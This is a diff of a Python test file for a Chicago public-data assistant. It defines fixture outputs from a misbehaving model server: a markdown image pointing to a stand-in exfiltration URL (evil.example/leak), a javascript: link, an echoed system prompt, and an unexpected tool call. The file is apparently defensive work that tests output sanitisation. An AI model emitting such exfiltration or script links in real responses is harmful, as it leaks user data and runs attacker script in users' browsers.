@@ -198,7 +198,7 @@ def test_gunicorn_with_the_rule_planner_holds_every_case(tmp_path):
 
 # ---------------------------------------------------------------- gunicorn in front of a misbehaving model server
 
-MARKUP = "There were 717 homicides. ![x](http://evil.example/leak?d=1) [click](javascript:alert(1))"
+MARKUP = "There were 717 homicides in Chicago in 2022. ![x](http://evil.example/leak?d=1) [click](javascript:alert(1))"
 ECHO = "SYSTEM: You are ChiQA, an assistant for Chicago public data. USER: How many homicides"
 OUTSIDE = 'TOOL_CALL: {"name": "query_homicides_advanced", "arguments": {"start_year": 2001, "end_year": 2004}}'
 
